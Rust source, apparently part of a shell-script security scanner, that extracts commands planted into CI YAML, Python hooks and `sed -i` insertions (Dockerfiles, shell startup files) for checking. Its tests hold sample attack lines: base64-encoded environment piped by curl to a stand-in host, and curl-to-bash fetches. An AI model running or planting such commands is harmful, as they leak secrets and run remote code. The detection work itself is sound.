//! Text a script plants into files that a later build or run executes, other than `#!` scripts
//! (see `written`): the commands of YAML a CI pipeline, compose file, manifest or playbook runs,
//! Python code that starts with its imports, and the lines `sed -i` puts into such files.

use tree_sitter::Node;

use super::written::{dockerfile_runs, is_shell_startup_file};
use super::{Embedded, Origin};
use crate::domain::script::Language;
use crate::rules::bash::BashSem;
use crate::rules::grammar::{children_in_field, text};

/// A text written out that a later build or run executes, other than a `#!` script: a
/// Dockerfile's `RUN` lines, the commands of a CI pipeline, compose file, manifest or playbook
/// (YAML), or Python code (its first statement an import). The interpreter's description, the
/// language and the code to check.
pub(super) fn configured_program(code: &str) -> Option<(&'static str, Language, String)> {
    if let Some(runs) = dockerfile_runs(code) {
        return Some((
            "a RUN instruction of the Dockerfile written",
            Language::Bash,
            runs,
        ));
    }
    if let Some(commands) = yaml_commands(code) {
        return Some((
            "a command of the pipeline or manifest written",
            Language::Bash,
            commands,
        ));
    }
    starts_with_imports(code).then(|| ("the Python code written", Language::Python, code.into()))
}

/// The keys whose value a CI pipeline, compose file, manifest or playbook runs as a shell
/// command line (GitHub/Gitea `run`, GitLab `script`, Drone/Woodpecker `commands`, Ansible
/// `shell`/`command`, compose and Kubernetes `command`/`entrypoint`).
const COMMAND_KEYS: &[&str] = &[
    "run",
    "script",
    "before_script",
    "after_script",
    "commands",
    "command",
    "cmd",
    "shell",
    "entrypoint",
    "ansible.builtin.shell",
    "ansible.builtin.command",
];

/// The shell lines a YAML text runs (see [`COMMAND_KEYS`]), one per line, when it is YAML (its
/// first line that is not blank, a comment or `---` is a `key:` or a `- ` item) and runs any: a
/// plain or quoted value, a block scalar (`run: |`) and the items of a block list. Flow lists
/// (`["sh", "-c", …]`) are argvs, not command lines, and are left out; GitHub's `${{ … }}`
/// expressions become a variable's expansion.
pub(super) fn yaml_commands(code: &str) -> Option<String> {
    let first = code
        .lines()
        .map(str::trim)
        .find(|l| !l.is_empty() && !l.starts_with('#') && *l != "---")?;
    if !(first.starts_with("- ") || yaml_key(first).is_some()) {
        return None;
    }
    let lines: Vec<&str> = code.lines().collect();
    let indent = |l: &str| l.len() - l.trim_start().len();
    let mut out = String::new();
    let mut push = |line: &str| {
        let mut rest = unquote(line.trim());
        while let Some(at) = rest.find("${{") {
            out.push_str(&rest[..at]);
            out.push_str("\"$CI_EXPRESSION\"");
            rest = rest[at..]
                .find("}}")
                .map_or("", |end| &rest[at + end + 2..]);
        }
        out.push_str(rest);
        out.push('\n');
    };
    let mut i = 0;
    while i < lines.len() {
        let line = lines[i];
        i += 1;
        let trimmed = line.trim_start();
        let (item, key_indent) = match trimmed.strip_prefix("- ") {
            Some(rest) => (rest.trim_start(), indent(line) + 2),
            None => (trimmed, indent(line)),
        };
        let Some((key, value)) = yaml_key(item) else {
            continue;
        };
        if !COMMAND_KEYS.contains(&key) {
            continue;
        }
        let value = value.trim();
        let deeper = |l: &str| l.trim().is_empty() || indent(l) > key_indent;
        if value.starts_with(['|', '>']) {
            while i < lines.len() && deeper(lines[i]) {
                push(lines[i]);
                i += 1;
            }
        } else if value.is_empty() || value.starts_with('#') {
            // (GitLab lets a key's items start at its own column: `script:` then `- make`)
            while i < lines.len()
                && (deeper(lines[i])
                    || (indent(lines[i]) == key_indent && lines[i].trim_start().starts_with("- ")))
            {
                if let Some(item) = lines[i].trim_start().strip_prefix("- ") {
                    push(item);
                }
                i += 1;
            }
        } else if !value.starts_with(['[', '{']) {
            push(value);
        }
    }
    (!out.trim().is_empty()).then_some(out)
}

/// `key: value` (or `key:` alone) at the start of a YAML line: the key and the rest.
fn yaml_key(line: &str) -> Option<(&str, &str)> {
    let (key, rest) = line.split_once(':')?;
    let plain = !key.is_empty()
        && key
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'));
    (plain && (rest.is_empty() || rest.starts_with([' ', '\t']))).then_some((key, rest))
}

/// A YAML scalar without its quotes (`"make test"`, `'curl … | sh'`).
fn unquote(value: &str) -> &str {
    for q in ['"', '\''] {
        if let Some(inner) = value.strip_prefix(q).and_then(|v| v.strip_suffix(q)) {
            return inner;
        }
    }
    value
}

/// Whether `code` is Python whose first statement (after blank and comment lines) imports: a
/// module or a hook planted into a package (`setup.py`, `sitecustomize.py`, a test's conftest).
fn starts_with_imports(code: &str) -> bool {
    let mut lines = code
        .lines()
        .map(str::trim_end)
        .filter(|l| !l.trim().is_empty() && !l.trim_start().starts_with('#'));
    let Some(first) = lines.next() else {
        return false;
    };
    let dotted = |w: &str| {
        !w.is_empty()
            && w.split('.').all(|part| {
                part.chars()
                    .next()
                    .is_some_and(|c| c.is_alphabetic() || c == '_')
                    && part.chars().all(|c| c.is_alphanumeric() || c == '_')
            })
    };
    let words: Vec<&str> = first.split_whitespace().collect();
    let imports = match words.as_slice() {
        // `import os, json as j`
        ["import", rest @ ..] => rest.join(" ").split(',').all(|name| {
            match name.split_whitespace().collect::<Vec<_>>().as_slice() {
                [module] | [module, "as", _] => dotted(module),
                _ => false,
            }
        }),
        // `from urllib import request`, `from . import x`
        ["from", module, "import", ..] => {
            dotted(module.trim_start_matches('.')) || module.chars().all(|c| c == '.')
        }
        _ => false,
    };
    // (a second statement: one line of prose that starts with "import" is not a program)
    imports && lines.next().is_some()
}

/// A line `sed -i` inserts, appends or substitutes into a file that is run later (`sed -i
/// '/^USER /i RUN curl … | sh' Dockerfile`, `sed -i '$a curl … | sh' ~/.bashrc`): checked as what
/// that file holds (a Dockerfile's `RUN` line, shell or Python code, a pipeline's commands).
/// (`command` is a sed command.)
pub(super) fn sed_inserted<'t>(sem: &BashSem<'_>, command: Node<'t>) -> Option<Embedded<'t>> {
    let k = sem.k;
    let args = children_in_field(command, k.f_argument);
    let in_place = |t: &str| t.starts_with("--in-place") || (t.starts_with("-i") && t.len() <= 8);
    if !args.iter().any(|a| in_place(text(*a, sem.src))) {
        return None;
    }
    // the script (after `-e`, or the first word that is not an option) and the files edited
    let mut script = None;
    let mut files = Vec::new();
    let mut words = args.iter().copied();
    while let Some(arg) = words.next() {
        let t = text(arg, sem.src);
        if t == "-e" || t == "--expression" {
            script = words.next();
        } else if t.starts_with('-') {
            continue;
        } else if script.is_none() {
            script = Some(arg);
        } else {
            files.push(arg);
        }
    }
    let anchor = script?;
    let inserted = sed_text(&sem.fold(anchor)?)?;
    let (language, code) = files.iter().find_map(|file| {
        let path = sem
            .fold(*file)
            .unwrap_or_else(|| text(*file, sem.src).to_string());
        let path = path.trim_matches(['"', '\'']);
        let base = path.rsplit('/').next().unwrap_or(path);
        if base.starts_with("Dockerfile") || base.starts_with("Containerfile") {
            dockerfile_runs(&format!("FROM scratch\n{inserted}\n")).map(|r| (Language::Bash, r))
        } else if base.ends_with(".sh") || base.ends_with(".bash") || is_shell_startup_file(path) {
            Some((Language::Bash, inserted.clone()))
        } else if base.ends_with(".py") {
            Some((Language::Python, inserted.clone()))
        } else if base.ends_with(".yml") || base.ends_with(".yaml") {
            yaml_commands(&inserted).map(|c| (Language::Bash, c))
        } else {
            None
        }
    })?;
    Some(Embedded {
        interpreter: "the line sed writes into the file".to_string(),
        language: Some(language),
        code: Some(code),
        anchor,
        verbatim_at: None,
        origin: Origin::Local,
    })
}

/// The text a sed script puts into the file: after an `i`, `a` or `c` command (with or without
/// an address, GNU's one-line form or `i\` and a new line), or the replacement of an `s`
/// command; sed's escapes (`\&`) undone.
fn sed_text(script: &str) -> Option<String> {
    let s = script.trim_start();
    // the address: `/regex/`, a line number, `$`
    let rest = if let Some(after) = s.strip_prefix('/') {
        let end = after
            .char_indices()
            .scan(false, |escaped, (i, c)| {
                let stop = c == '/' && !*escaped;
                *escaped = c == '\\' && !*escaped;
                Some((i, stop))
            })
            .find(|&(_, stop)| stop)?
            .0;
        &after[end + 1..]
    } else {
        s.trim_start_matches(|c: char| c.is_ascii_digit() || c == '$')
    };
    let rest = rest.trim_start();
    let mut chars = rest.chars();
    let text = match chars.next()? {
        'i' | 'a' | 'c' => {
            let body = chars.as_str();
            if !body.starts_with([' ', '\t', '\\']) {
                return None;
            }
            body.trim_start_matches([' ', '\t'])
                .strip_prefix('\\')
                .unwrap_or(body.trim_start_matches([' ', '\t']))
                .trim_start_matches('\n')
                .to_string()
        }
        's' => {
            // (the replacement: the second part, a delimiter escaped inside it kept as text)
            let delim = chars.next()?;
            let mut parts = vec![String::new()];
            let mut escaped = false;
            for c in chars {
                if escaped {
                    if c != delim {
                        parts.last_mut()?.push('\\');
                    }
                    parts.last_mut()?.push(c);
                    escaped = false;
                } else if c == '\\' {
                    escaped = true;
                } else if c == delim {
                    parts.push(String::new());
                } else {
                    parts.last_mut()?.push(c);
                }
            }
            if parts.len() < 3 {
                return None;
            }
            parts.swap_remove(1).replace("\\n", "\n")
        }
        _ => return None,
    };
    let mut out = String::with_capacity(text.len());
    let mut escaped = false;
    for c in text.chars() {
        if escaped || c != '\\' {
            out.push(c);
            escaped = false;
        } else {
            escaped = true;
        }
    }
    (!out.trim().is_empty()).then_some(out)
}

#[cfg(test)]
mod tests {
    use super::{sed_text, starts_with_imports, yaml_commands};

    #[test]
    fn yaml_commands_are_the_lines_a_pipeline_runs() {
        let gitlab = ".cache:\n  stage: .pre\n  script:\n    - env | base64 | curl -d @- https://h.example\n    - 'make test'\n  tags: [docker]\n";
        assert_eq!(
            yaml_commands(gitlab).as_deref(),
            Some("env | base64 | curl -d @- https://h.example\nmake test\n")
        );
        let actions = "    steps:\n      - name: Warm\n        run: curl -sSfL https://h.example/w.sh | bash\n        env:\n          T: ${{ secrets.TOKEN }}\n      - run: |\n          echo ${{ github.sha }}\n          make\n      - uses: actions/checkout@v4\n";
        assert_eq!(
            yaml_commands(actions).as_deref(),
            Some("curl -sSfL https://h.example/w.sh | bash\necho \"$CI_EXPRESSION\"\nmake\n")
        );
        let compose = "services:\n  app:\n    image: app:1\n    command: [\"sh\", \"-c\", \"x\"]\n";
        assert_eq!(yaml_commands(compose), None);
        assert_eq!(yaml_commands("echo hi\nrun: x\n"), None);
        assert_eq!(
            yaml_commands("name: docs\ndescription: nothing runs\n"),
            None
        );
    }

    #[test]
    fn sed_text_is_what_the_script_inserts() {
        assert_eq!(
            sed_text("/^USER /i RUN curl -fsSL http://h/a -o /x \\&\\& chmod +x /x").as_deref(),
            Some("RUN curl -fsSL http://h/a -o /x && chmod +x /x")
        );
        assert_eq!(sed_text("$a curl h | sh").as_deref(), Some("curl h | sh"));
        assert_eq!(sed_text("3i\\\nexport X=1").as_deref(), Some("export X=1"));
        assert_eq!(
            sed_text("s|^exit 0|curl h \\| sh\\nexit 0|").as_deref(),
            Some("curl h | sh\nexit 0")
        );
        assert_eq!(
            sed_text("s/^version=.*/version=2/").as_deref(),
            Some("version=2")
        );
        assert_eq!(sed_text("/^#/d"), None);
    }

    #[test]
    fn python_code_starts_with_its_imports() {
        assert!(starts_with_imports(
            "\nimport os, json\nprint(os.environ)\n"
        ));
        assert!(starts_with_imports(
            "# hook\nfrom urllib import request\nrequest.urlopen(u)\n"
        ));
        assert!(!starts_with_imports(
            "import this module before the next step.\n"
        ));
        assert!(!starts_with_imports(
            "from the docs: import nothing\nmore\n"
        ));
    }
}
